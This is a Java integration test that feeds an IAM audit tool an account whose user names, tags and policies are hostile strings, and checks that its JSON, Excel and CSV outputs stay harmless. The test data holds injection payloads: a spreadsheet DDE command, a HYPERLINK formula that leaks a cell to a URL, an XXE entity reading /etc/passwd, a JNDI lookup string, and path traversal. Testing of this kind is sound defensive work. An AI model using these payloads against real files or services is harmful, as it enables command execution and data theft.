package org.iamaudit.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.StreamSupport;
import java.util.zip.ZipFile;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * An account whose names, tags and policies are written by an enemy, from the snapshot to every
 * file of the package: nothing of it runs, and nothing vanishes without a word.
 */
class HostileAccountIT {
  private static final String LONG = "long-" + "0123456789".repeat(4_000);

  private static final List<String> TEXTS =
      List.of(
          "=HYPERLINK(\"http://example.com/?\"&A1,\"click\")",
          "=cmd|'/C calc'!A0",
          "+1+1",
          "-2+3",
          "@SUM(1+1)",
          "\t=1+1",
          "\r\n=1+1",
          " \u200B=1+1",
          "\uFF1D1+1",
          "bell\u0007 null\u0000 escape\u001B[31m",
          "exe.\u202Egnp.\u2066isolate",
          "&amp; <b>bold</b> &#61;1 ]]> <!ENTITY x SYSTEM \"file:///etc/passwd\">",
          "_x003D_1+1",
          "'quoted\" and, comma",
          "../../../../tmp/elsewhere",
          "${jndi:ldap://example.com/a} {{7*7}}",
          LONG);

  @TempDir Path directory;

  private TinyAccount account;

  @BeforeEach
  void aUserForEachText() throws IOException {
    account = new TinyAccount(directory);
    account.details(
        details -> {
          ArrayNode users = (ArrayNode) details.get("UserDetailList");
          for (int i = 0; i < TEXTS.size(); i++) {
            user(users.addObject(), i);
          }
        });
    account.baseline(
        "staff.yml",
        """
        baseline: staff
        owner: "=1+1"
        applies-to: [{user: "*"}]
        requires: [{Action: sqs:SendMessage, Resource: "*"}]
        """);
    Path summary = account.snapshot.resolve("account-summary.json");
    ObjectNode counts = (ObjectNode) TinyAccount.json(Files.readString(summary));
    ObjectNode map = (ObjectNode) counts.get("SummaryMap");
    map.put("Users", map.get("Users").asInt() + TEXTS.size());
    Files.writeString(summary, counts.toString());
  }

  @AfterEach
  void close() {
    account.close();
  }

  private static void user(ObjectNode user, int number) {
    String text = TEXTS.get(number);
    user.put("Path", "/").put("UserName", text).put("UserId", "AIDA%017d".formatted(number));
    user.put("Arn", arn(text)).put("CreateDate", "2025-01-02T03:04:05Z");
    user.putArray("GroupList");
    user.putArray("AttachedManagedPolicies");
    user.putArray("Tags").addObject().put("Key", "owner").put("Value", text);
    ObjectNode policy = user.putArray("UserPolicyList").addObject();
    policy.put("PolicyName", text);
    ObjectNode document = policy.putObject("PolicyDocument").put("Version", "2012-10-17");
    ObjectNode statement = document.putArray("Statement").addObject();
    statement.put("Effect", "Allow").put("Action", "s3:GetObject");
    statement.put("Resource", "arn:aws:s3:::bucket/" + text.replaceAll("[*?$]", ""));
    ObjectNode equal = statement.putObject("Condition").putObject("StringEquals");
    equal.put("aws:RequestTag/" + "team", text.replace("$", ""));
  }

  private static String arn(String name) {
    return "arn:aws:iam::" + TinyAccount.ID + ":user/" + name;
  }

  @Test
  void isAuditedAndHarmsNoReader() throws Exception {
    assertThat(account.audit()).as(account.stderr()).isIn(0, 4);

    assertThat(account.stdout() + account.stderr()).doesNotContain("\u001B", "\u0007", "\u202E");
    assertThat(directory.resolve("out")).isDirectory();
    assertThat(account.run("verify", account.out.toString(), "--quiet"))
        .as(account.stdout())
        .isZero();
    inFindings();
    inWorkbook();
    inPopulation();
    inComparison();
    assertThat(account.manifest().findValues("escapedCells"))
        .anySatisfy(cells -> assertThat(cells.asInt()).isGreaterThan(8));
    assertThat(account.manifest().findValues("cutCells"))
        .anySatisfy(cells -> assertThat(cells.asInt()).isPositive());
  }

  private void inFindings() throws IOException {
    List<String> names = new ArrayList<>();
    for (JsonNode finding : account.findings().path("findings")) {
      names.add(finding.path("principal").path("name").asText());
    }
    assertThat(names).as("whole and unchanged").containsAll(TEXTS);
  }

  private void inWorkbook() throws IOException {
    List<String> names = new ArrayList<>();
    try (XSSFWorkbook workbook = account.workbook()) {
      for (Sheet sheet : workbook) {
        for (Row row : sheet) {
          row.forEach(HostileAccountIT::assertHarmless);
        }
      }
      Sheet principals = workbook.getSheet("Principals");
      int name = header(principals, "Name");
      for (Row row : principals) {
        names.add(row.getCell(name).getStringCellValue());
      }
    }
    for (String text : TEXTS) {
      String shown = printable(text);
      if (text.equals(LONG)) {
        assertThat(names)
            .anyMatch(n -> n.startsWith("long-0123") && n.contains("… [cut, full text"));
      } else {
        assertThat(names).contains(shown);
      }
    }
    try (ZipFile zip = new ZipFile(account.file(".xlsx").toFile())) {
      assertThat(zip.stream().map(entry -> entry.getName().toLowerCase()))
          .noneMatch(part -> part.contains("external") || part.contains("vba"));
    }
  }

  private static void assertHarmless(Cell cell) {
    if (cell.getCellType() == CellType.FORMULA) {
      assertThat(cell.getSheet().getSheetName()).isEqualTo("Reconciliation");
      assertThat(cell.getCellFormula()).startsWith("COUNTIFS(");
    }
    if (cell.getHyperlink() != null) {
      assertThat(cell.getHyperlink().getAddress()).matches("'[A-Za-z ()0-9-]+'!A\\d+");
    }
    if (cell.getCellType() == CellType.STRING
        && cell.getStringCellValue().strip().startsWith("=")) {
      assertThat(cell.getCellStyle().getQuotePrefixed()).as(cell.getAddress() + "").isTrue();
    }
  }

  private static int header(Sheet sheet, String header) {
    return StreamSupport.stream(sheet.getRow(0).spliterator(), false)
        .filter(cell -> cell.getStringCellValue().equals(header))
        .findFirst()
        .orElseThrow()
        .getColumnIndex();
  }

  private void inPopulation() throws IOException {
    String csv = Files.readString(account.file("population.csv"));
    for (String text : TEXTS) {
      assertThat(csv).contains(printable(text).replace("\"", "\"\""));
    }
    assertNoFormula(csv);
  }

  private void inComparison() throws IOException {
    String csv = Files.readString(account.file("comparison.csv"));
    assertThat(csv).contains(LONG);
    assertNoFormula(csv);
  }

  /** No value, freed of its quotes, may begin like a formula. */
  private static void assertNoFormula(String csv) {
    for (String value : values(csv)) {
      assertThat(value).doesNotContainPattern("^[\\s\u200B]*[=+@\uFF1D-]");
      assertThat(value).doesNotContain("\u0000", "\u0007");
    }
  }

  /** As RFC 4180 has them. */
  private static List<String> values(String csv) {
    List<String> values = new ArrayList<>();
    StringBuilder value = new StringBuilder();
    boolean quoted = false;
    for (int i = 0; i < csv.length(); i++) {
      char c = csv.charAt(i);
      if (c == '"') {
        boolean two = quoted && i + 1 < csv.length() && csv.charAt(i + 1) == '"';
        if (two) {
          value.append(csv.charAt(++i));
        } else {
          quoted = !quoted;
        }
      } else if (!quoted && (c == ',' || c == '\n')) {
        values.add(value.toString());
        value.setLength(0);
      } else {
        value.append(c);
      }
    }
    return values;
  }

  /** What XML cannot hold shows as U+FFFD. */
  private static String printable(String text) {
    return text.replaceAll("[\u0000-\u0008\u000B\u000C\u000E-\u001F]", "\uFFFD");
  }
}
